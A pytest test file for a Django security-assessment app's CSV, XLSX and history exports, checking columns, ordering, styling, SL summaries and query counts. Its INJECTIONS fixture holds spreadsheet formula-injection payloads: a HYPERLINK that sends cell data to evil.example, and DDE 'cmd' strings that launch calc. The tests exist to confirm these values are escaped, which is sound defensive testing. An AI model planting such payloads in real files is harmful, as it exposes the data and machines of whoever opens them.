"""The results exports: CSV (columns, values, BOM, formula injection escaped, order) and XLSX (same
header and rows, styling, text never turned into formulas, the Summary sheet's SL-A), in a constant
number of queries."""

from __future__ import annotations

import csv
import hashlib
import io
from dataclasses import dataclass
from datetime import datetime
from pathlib import Path
from typing import Any

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.db import connection
from django.test.utils import CaptureQueriesContext
from openpyxl import load_workbook

from assessments import services
from assessments.choices import ResultStatus
from assessments.models import Assessment, Evidence, Result
from core.csvio import escape_formula, safe_cell
from reports.exports import RESULT_COLUMNS, results_csv, results_xlsx
from reports.history_export import history_csv
from tests.assessments.helpers import Plant, make_assessment, make_plant, mark, result_for, set_target, uniform
from tests.conftest import Personas

# Written out here rather than imported: the test fails if the exported columns change.
EXPECTED_COLUMNS = [
    "assessment", "site", "target_kind", "target", "requirement", "requirement_title", "fr", "level",
    "sl_target_for_fr", "status", "in_scope", "observations", "countermeasure", "justification", "evidence",
    "evidence_sha256", "assignee", "updated_by", "updated_at", "version", "result_id",
]  # fmt: skip
PDF = b"%PDF-1.7\n1 0 obj\n<< /Type /Catalog >>\nendobj\ntrailer\n<< /Root 1 0 R >>\n%%EOF\n"
RULES = b"allow tcp 10.0.1.0/24 -> 10.0.2.5:502\n"
INJECTIONS = {
    "observations": '=HYPERLINK("http://evil.example/?d="&A1,"click")',
    "countermeasure": "+cmd|' /C calc'!A0",
    "justification": "@SUM(1+1)*cmd|' /C calc'!A0",
}


@dataclass
class World:
    """Zone 1 (SL-T 2) all met but SR 1.1 not met, with evidence; Zone 2 (SL-T 1, FR7 lowered to 0
    so its FR7 results are out of scope) untouched; the conduit (SL-T 1) all compensated."""

    plant: Plant
    assessment: Assessment
    sr11: Result
    pdf: Evidence
    rules: Evidence
    reference: Evidence


@pytest.fixture
def media(settings: Any, tmp_path: Path) -> Path:
    settings.MEDIA_ROOT = tmp_path / "media"
    return tmp_path / "media"


def upload(name: str, content: bytes, content_type: str = "application/pdf") -> SimpleUploadedFile:
    return SimpleUploadedFile(name, content, content_type=content_type)


def build_world(personas: Personas) -> World:
    consultant = personas.consultant
    consultant.first_name, consultant.last_name = "Carla", "Consultant"
    consultant.save()
    plant = make_plant(personas.site, [uniform(2), uniform(1)], conduit_slt=uniform(1))
    assessment = make_assessment(personas.site, consultant)
    zone1, zone2 = plant.zones
    mark(assessment, zone1, ResultStatus.MET, consultant)
    mark(assessment, plant.conduits[0], ResultStatus.COMPENSATED, consultant)
    sr11 = result_for(assessment, zone1, "SR 1.1")
    pdf = services.evidence_add(assessment=assessment, by=consultant, file=upload("firewall-audit.pdf", PDF))
    rules = services.evidence_add(
        assessment=assessment, by=consultant, file=upload("rules.txt", RULES, "text/plain"), description="Rules"
    )
    reference = services.evidence_add(assessment=assessment, by=consultant, reference="DMS-4711 network drawing")
    sr11 = services.result_update(
        result=sr11,
        by=consultant,
        fields={
            "status": ResultStatus.NOT_MET,
            "observations": "Shared operator account on HMI-2",
            "assignee": personas.owner,
        },
        evidence=[pdf, rules, reference],
    )
    set_target(zone2, "{1,1,1,1,1,1,0}")
    services.assessment_resync(assessment=assessment, by=consultant)
    return World(plant, assessment, sr11, pdf, rules, reference)


@pytest.fixture
def world(personas: Personas, media: Path) -> World:
    return build_world(personas)


def read_csv(data: bytes) -> list[dict[str, str]]:
    assert data.startswith(b"\xef\xbb\xbf"), "UTF-8 byte-order mark for Excel"
    return list(csv.DictReader(io.StringIO(data.decode("utf-8-sig"), newline="")))


def export_csv(assessment: Assessment) -> bytes:
    out = io.BytesIO()
    results_csv(assessment, out)
    return out.getvalue()


def export_xlsx(assessment: Assessment) -> Any:
    out = io.BytesIO()
    results_xlsx(assessment, out)
    return load_workbook(io.BytesIO(out.getvalue()))


# --- core.csvio ------------------------------------------------------------------------------------
@pytest.mark.parametrize("text", ["=1+2", "+1", "-1", "@SUM(A1)", "\tx", "\rx", '=HYPERLINK("x")'])
def test_formula_like_text_gets_an_apostrophe(text: str) -> None:
    assert escape_formula(text) == "'" + text
    assert safe_cell(text) == "'" + text


@pytest.mark.parametrize("text", ["", "a=b", "SR 1.1", "1-2", "'quoted", "Zone 1", " =x"])
def test_ordinary_text_is_left_alone(text: str) -> None:
    assert escape_formula(text) == text


def test_numbers_booleans_and_nothing_are_plain_cells() -> None:
    assert safe_cell(-3) == -3
    assert safe_cell(True) == "yes"
    assert safe_cell(None) == ""
    assert safe_cell(datetime(2026, 1, 2, 3, 4, 5)) == "2026-01-02T03:04:05"


# --- CSV ------------------------------------------------------------------------------------------
def test_csv_has_the_columns_and_one_row_per_result_in_scope_or_not(world: World) -> None:
    rows = read_csv(export_csv(world.assessment))
    assert list(rows[0]) == EXPECTED_COLUMNS == list(RESULT_COLUMNS)
    assert len(rows) == Result.objects.filter(assessment=world.assessment).count()
    out_of_scope = [r for r in rows if r["in_scope"] == "no"]
    assert out_of_scope, "Zone 2's FR7 results are out of scope"
    assert {(r["target"], r["fr"]) for r in out_of_scope} == {("Zone 2", "FR7")}
    assert {r["in_scope"] for r in rows} == {"yes", "no"}


def test_csv_row_values(world: World, personas: Personas) -> None:
    rows = read_csv(export_csv(world.assessment))
    (row,) = [r for r in rows if r["target"] == "Zone 1" and r["requirement"] == "SR 1.1"]
    world.sr11.refresh_from_db()
    assert row["assessment"] == "Gap assessment 2025"
    assert row["site"] == "Site A"
    assert row["target_kind"] == "zone"
    assert row["requirement_title"] == world.sr11.requirement.title
    assert row["fr"] == "FR1"
    assert row["level"] == "1"
    assert row["sl_target_for_fr"] == "2"
    assert row["status"] == "not_met"
    assert row["observations"] == "Shared operator account on HMI-2"
    assert row["evidence"] == "firewall-audit.pdf; rules.txt; DMS-4711 network drawing"
    assert row["evidence_sha256"] == f"{hashlib.sha256(PDF).hexdigest()}; {hashlib.sha256(RULES).hexdigest()}"
    assert row["assignee"] == personas.owner.username  # no full name: the user name
    assert row["updated_by"] == "Carla Consultant"
    assert datetime.fromisoformat(row["updated_at"]) == world.sr11.updated_at
    assert row["version"] == str(world.sr11.version)
    assert row["result_id"] == str(world.sr11.pk)
    conduit_row = next(r for r in rows if r["target_kind"] == "conduit")
    assert conduit_row["status"] == "compensated"
    assert conduit_row["countermeasure"] == "Jump host with MFA in front of the HMI"


def test_csv_order_is_zones_by_purdue_level_then_conduits_in_catalogue_order(world: World) -> None:
    rows = read_csv(export_csv(world.assessment))
    targets = [r["target"] for r in rows]
    first = {name: targets.index(name) for name in ("Zone 1", "Zone 2", "Conduit 1-2")}
    assert first["Zone 1"] < first["Zone 2"] < first["Conduit 1-2"]
    assert targets == sorted(targets, key=lambda t: first[t]), "each target's rows are together"
    zone1 = [r["requirement"] for r in rows if r["target"] == "Zone 1"]
    positions = dict(
        Result.objects.filter(assessment=world.assessment, zone=world.plant.zones[0]).values_list(
            "requirement__ref", "requirement__position"
        )
    )
    assert zone1 == sorted(zone1, key=positions.__getitem__)
    assert zone1[0] == "SR 1.1"


def test_csv_escapes_formula_injection(world: World, personas: Personas) -> None:
    services.result_update(result=world.sr11, by=personas.consultant, fields=dict(INJECTIONS))
    rows = read_csv(export_csv(world.assessment))
    row = next(r for r in rows if r["result_id"] == str(world.sr11.pk))
    for name, text in INJECTIONS.items():
        assert row[name] == "'" + text
    assert not any(value.startswith(("=", "+", "-", "@")) for r in rows for value in r.values())


def test_csv_of_an_assessment_without_results_is_the_header(personas: Personas) -> None:
    assessment = make_assessment(personas.site, personas.consultant)
    data = export_csv(assessment)
    assert data.decode("utf-8-sig").splitlines() == [",".join(EXPECTED_COLUMNS)]


# --- XLSX -----------------------------------------------------------------------------------------
def test_xlsx_has_the_csv_header_and_rows(world: World) -> None:
    csv_rows = read_csv(export_csv(world.assessment))
    book = export_xlsx(world.assessment)
    assert book.sheetnames == ["Results", "Summary"]
    sheet = book["Results"]
    rows = list(sheet.iter_rows(values_only=True))
    assert list(rows[0]) == EXPECTED_COLUMNS
    assert len(rows) - 1 == len(csv_rows)
    by_id = {
        row[EXPECTED_COLUMNS.index("result_id")]: dict(zip(EXPECTED_COLUMNS, row, strict=True)) for row in rows[1:]
    }
    row = by_id[str(world.sr11.pk)]
    assert row["status"] == "not_met"
    assert row["level"] == 1 and row["sl_target_for_fr"] == 2  # numbers, not text
    assert row["evidence"] == "firewall-audit.pdf; rules.txt; DMS-4711 network drawing"
    world.sr11.refresh_from_db()
    assert row["updated_at"] == world.sr11.updated_at.replace(tzinfo=None, microsecond=0)


def test_xlsx_header_is_bold_frozen_filtered_and_status_coloured(world: World) -> None:
    sheet = export_xlsx(world.assessment)["Results"]
    assert all(cell.font.b for cell in sheet[1])
    assert sheet.freeze_panes == "A2"
    assert sheet.auto_filter.ref == f"A1:U{sheet.max_row}"
    assert sheet.column_dimensions["F"].width >= 30  # the requirement title is readable
    status = EXPECTED_COLUMNS.index("status")
    fills = {row[status].value: row[status].fill.fgColor.rgb for row in sheet.iter_rows(min_row=2)}
    assert fills["not_met"].endswith("FBE4E2")
    assert fills["met"].endswith("E3F4EA")
    assert fills["not_met"] != fills["not_assessed"]


def test_xlsx_keeps_formula_like_text_as_text(world: World, personas: Personas) -> None:
    services.result_update(
        result=world.sr11,
        by=personas.consultant,
        fields={**INJECTIONS, "observations": INJECTIONS["observations"] + "\x01\x08 control characters"},
    )
    sheet = export_xlsx(world.assessment)["Results"]
    row = next(
        r for r in sheet.iter_rows(min_row=2) if r[EXPECTED_COLUMNS.index("result_id")].value == str(world.sr11.pk)
    )
    cell = row[EXPECTED_COLUMNS.index("observations")]
    assert cell.data_type == "s", "a string, never a formula"
    assert cell.value == INJECTIONS["observations"] + " control characters"
    assert cell.quotePrefix
    justification = row[EXPECTED_COLUMNS.index("justification")]
    assert justification.data_type == "s" and justification.value == INJECTIONS["justification"]


def summary_rows(book: Any) -> dict[tuple[str, str], list[Any]]:
    rows = list(book["Summary"].iter_rows(values_only=True))
    header = rows[0]
    assert header[:3] == ("Kind", "Zone or conduit", "Measure")
    assert [h.split()[0] for h in header[3:10]] == [f"FR{n}" for n in range(1, 8)]
    return {(row[1], row[2]): list(row[3:10]) for row in rows[1:] if row and row[2] in ("SL-T", "SL-A", "Gap")}


def test_xlsx_summary_gives_sl_target_achieved_and_gap(world: World) -> None:
    book = export_xlsx(world.assessment)
    table = summary_rows(book)
    # Zone 1: all met but SR 1.1 (an SL1 item of FR1): SL-A 0 in FR1, 2 elsewhere.
    assert table[("Zone 1", "SL-T")] == [2] * 7
    assert table[("Zone 1", "SL-A")] == [0, 2, 2, 2, 2, 2, 2]
    assert table[("Zone 1", "Gap")] == [2, 0, 0, 0, 0, 0, 0]
    # Zone 2: nothing assessed; FR7 no longer targeted.
    assert table[("Zone 2", "SL-T")] == [1, 1, 1, 1, 1, 1, 0]
    assert table[("Zone 2", "SL-A")] == [0] * 7
    assert table[("Zone 2", "Gap")] == [1, 1, 1, 1, 1, 1, 0]
    # The conduit: every SL1 item compensated.
    assert table[("Conduit 1-2", "SL-A")] == [1] * 7
    assert table[("Conduit 1-2", "Gap")] == [0] * 7


def test_xlsx_summary_gives_at_target_and_progress(world: World) -> None:
    rows = list(export_xlsx(world.assessment)["Summary"].iter_rows(values_only=True))
    header = list(rows[0])
    first = {row[1]: dict(zip(header, row, strict=False)) for row in rows[1:] if row and row[2] == "SL-T"}
    zone1 = Result.objects.filter(assessment=world.assessment, zone=world.plant.zones[0], in_scope=True).count()
    assert first["Zone 1"]["At target"] == "no"
    assert first["Zone 1"]["Assessed"] == first["Zone 1"]["Required"] == zone1
    assert first["Zone 1"]["Progress %"] == 100
    assert first["Conduit 1-2"]["At target"] == "yes"
    assert first["Zone 2"]["Assessed"] == 0 and first["Zone 2"]["Out of scope"] > 0
    notes = [row[0] for row in rows if row and row[0] and str(row[0]).startswith("Zones and conduits at target")]
    assert notes == ["Zones and conduits at target: 1 of 3"]


# --- history CSV ------------------------------------------------------------------------------------
def test_history_csv_names_who_changed_what_from_what_to_what(world: World, personas: Personas) -> None:
    out = io.BytesIO()
    history_csv(world.assessment, out)
    rows = read_csv(out.getvalue())
    status = [r for r in rows if r["object_id"] == str(world.sr11.pk) and r["field"] == "status"]
    assert [(r["from"], r["to"], r["who"]) for r in status] == [
        ("not_assessed", "met", "Carla Consultant"),
        ("met", "not_met", "Carla Consultant"),
    ]
    assignee = next(r for r in rows if r["object_id"] == str(world.sr11.pk) and r["field"] == "assignee")
    assert (assignee["from"], assignee["to"]) == ("", personas.owner.username)


# --- queries --------------------------------------------------------------------------------------
def count_queries(personas: Personas, zones: int, export: Any) -> int:
    plant = make_plant(personas.site, [uniform(1)] * zones, prefix=f"Q{zones}")
    assessment = make_assessment(personas.site, personas.consultant, zones=plant.zones, conduits=[])
    evidence = services.evidence_add(assessment=assessment, by=personas.consultant, reference="DMS-1")
    for zone in plant.zones:
        result = Result.objects.filter(assessment=assessment, zone=zone).first()
        assert result is not None
        services.result_update(result=result, by=personas.consultant, fields={"status": "met"}, evidence=[evidence])
    with CaptureQueriesContext(connection) as ctx:
        export(assessment, io.BytesIO())
    return len(ctx.captured_queries)


@pytest.mark.parametrize("export", [results_csv, results_xlsx, history_csv])
def test_exports_take_the_same_queries_for_1_and_5_zones(personas: Personas, media: Path, export: Any) -> None:
    assert count_queries(personas, 1, export) == count_queries(personas, 5, export)
